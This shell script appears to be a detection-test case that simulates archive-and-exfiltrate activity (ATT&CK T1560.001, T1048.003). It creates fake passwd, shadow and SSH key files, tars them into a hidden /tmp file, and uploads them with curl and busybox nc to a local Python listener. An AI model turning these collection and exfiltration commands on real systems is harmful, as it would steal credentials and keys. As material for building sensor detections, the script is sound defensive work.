# techniques: T1560.001 T1048.003
# Collection and exfiltration: a directory named like /etc (fake passwd/shadow/ssh key, in the
# temp working directory) archived with tar into /tmp, uploaded with `curl -T` over plain HTTP,
# and streamed again as `tar | nc`. The receiver is a Python listener on 127.0.0.1:18082.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH

listen() { # PORT REPLY [CONNECTIONS]: accept, send the reply, drain until EOF
  rm -f "ready.$1"
  /usr/bin/python3 -I -S -c '
import socket, sys
p, cmd, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", p)); l.listen(1); l.settimeout(8)
open("ready.%d" % p, "w").close()
for _ in range(n):
    c, _ = l.accept(); c.settimeout(1)
    try:
        c.recv(65536)
        c.sendall(cmd.encode())
        while c.recv(65536): pass
    except OSError: pass
    c.close()
' "$1" "$2" "${3:-1}" &
  lpid=$!
  i=0; while [ ! -e "ready.$1" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
}

mkdir -p loot/etc/ssh
printf 'root:x:0:0:root:/root:/bin/bash\n' > loot/etc/passwd
printf 'root:$6$fake$sensorcorpus:19000:0:99999:7:::\n' > loot/etc/shadow
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nZmFrZQ==\n-----END OPENSSH PRIVATE KEY-----\n' > loot/etc/ssh/ssh_host_ed25519_key
a=/tmp/.sensor-corpus-$$.tgz
tar czf $a -C loot etc
listen 18082 'HTTP/1.0 200 OK
Content-Length: 0

' 2
if command -v curl >/dev/null; then
  curl -s --max-time 5 -T $a http://127.0.0.1:18082/upload > /dev/null
else
  # keep the connection count right for the listener
  busybox nc -w 1 127.0.0.1 18082 < $a > /dev/null
fi
if command -v busybox >/dev/null; then
  tar czf - -C loot etc | busybox nc -w 2 127.0.0.1 18082 > /dev/null
fi
wait
rm -rf $a loot ready.*
exit 0
